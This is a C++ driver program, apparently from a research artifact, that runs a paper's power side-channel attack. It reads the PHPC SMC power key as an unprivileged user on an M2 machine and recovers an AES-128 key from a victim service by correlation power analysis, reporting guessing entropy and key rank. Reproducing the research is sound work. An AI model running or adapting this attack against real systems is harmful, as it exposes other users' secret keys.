// aes_key_recovery: the paper's headline attack (section 3.4) end to end.
// An unprivileged attacker submits known plaintexts to a victim crypto
// service, reads the PHPC SMC key after each measurement window, and runs
// CPA with the Rd0-HW model until key bytes surface.
//
//   ./aes_key_recovery [traces] [workers]   (default 300000 traces, 1
//                                            worker; workers > 1 runs the
//                                            sharded pipeline)
#include <iostream>

#include "core/campaigns.h"
#include "core/guessing_entropy.h"
#include "core/key_rank.h"
#include "core/report.h"
#include "util/hex.h"
#include "util/table.h"

#include "cli_args.h"

int main(int argc, char** argv) {
  using namespace psc;

  const std::size_t traces =
      cli::positional_u64(argc, argv, 1, "traces", 300'000);
  const std::size_t workers =
      cli::positional_u64(argc, argv, 2, "workers", 1);

  std::cout << "victim : user-space AES-128 service, 3 P-core threads, M2\n"
            << "channel: PHPC (P-cluster power, read as unprivileged user)\n"
            << "attack : known-plaintext CPA, Rd0-HW model, " << traces
            << " traces, " << workers << " worker(s)\n\n";

  core::LiveCampaignConfig config{
      .source = {.profile = soc::DeviceProfile::macbook_air_m2(),
                 .victim = victim::VictimModel::user_space()},
      .protocol = core::CampaignProtocol::random_stream,
      .traces = traces,
      .keys = {smc::FourCc("PHPC")},
      .checkpoints = core::log_spaced_checkpoints(traces / 32, traces, 6),
      .seed = 2024,
      .workers = workers,
      // Pinned shard count: results depend only on the seed, so any
      // worker count reproduces the same numbers.
      .shards = 8,
  };
  const auto result = run_live_campaign(config);
  const auto& key_result = *result.find_cpa(smc::FourCc("PHPC"));
  const auto& final = key_result.final_results[0];

  std::cout << "GE trajectory (bits of remaining key search space):\n";
  for (const auto& point : key_result.curves[0]) {
    std::cout << "  " << point.traces << " traces -> GE "
              << util::fixed(point.ge_bits, 1) << " bits, "
              << point.recovered_bytes << "/16 bytes at rank 1\n";
  }

  std::cout << "\nper-byte outcome:\n";
  util::TextTable table;
  table.header({"byte", "true key", "best guess", "rank"});
  for (std::size_t i = 0; i < 16; ++i) {
    char truth[8];
    char guess[8];
    std::snprintf(truth, sizeof truth, "0x%02x", result.secret[i]);
    std::snprintf(guess, sizeof guess, "0x%02x",
                  final.best_round_key[i]);
    table.add_row({std::to_string(i), truth, guess,
                   std::to_string(final.true_ranks[i]) +
                       (final.true_ranks[i] == 1 ? " *" : "")});
  }
  table.render(std::cout);

  const auto key_rank = core::estimate_key_rank(final);
  std::cout << "\nvictim key : " << util::to_hex(result.secret)
            << "\nbest guess : " << util::to_hex(final.best_round_key)
            << "\nGE " << util::fixed(final.ge_bits, 1) << " bits (random: "
            << util::fixed(core::random_guess_ge_bits(), 1)
            << ")\noptimal key-enumeration rank: 2^"
            << util::fixed(key_rank.log2_rank, 1) << " (bounds 2^"
            << util::fixed(key_rank.log2_rank_lower, 1) << " .. 2^"
            << util::fixed(key_rank.log2_rank_upper, 1)
            << ") — the actual work for a score-ordered full-key search; "
               "GE is its per-byte independence approximation\n";
  if (final.recovered_bytes < 16) {
    std::cout << "collect more traces to push the remaining bytes to rank "
                 "1 (the paper used 1M).\n";
  }
  return 0;
}
